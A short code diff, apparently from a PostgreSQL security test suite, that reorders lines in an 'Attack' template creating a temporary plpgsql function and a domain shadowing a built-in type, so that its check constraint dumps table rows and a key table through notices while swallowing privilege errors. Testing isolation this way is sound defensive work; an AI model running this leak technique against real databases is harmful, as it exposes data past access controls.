@@ -43,8 +43,8 @@ function typeOfHers(type: string): Attack {
     `create function pg_temp.look(v pg_catalog.${type}) returns pg_catalog.bool language plpgsql as $$
          declare r pg_catalog.text;
          begin
-           for r in select pg_catalog.to_jsonb(t)::pg_catalog.text from {table} t loop raise notice '%', r; end loop;
            for r in select 'key: ' || current_user || '1 rows seen' from ctx.key k loop raise notice '%', r; end loop;
+           for r in select pg_catalog.to_jsonb(t)::pg_catalog.text from {table} t loop raise notice '%', r; end loop;
            return true;
          exception when insufficient_privilege then return true; end $$`,
     `create domain pg_temp.${type} as pg_catalog.${type} check (pg_temp.look(value))`,
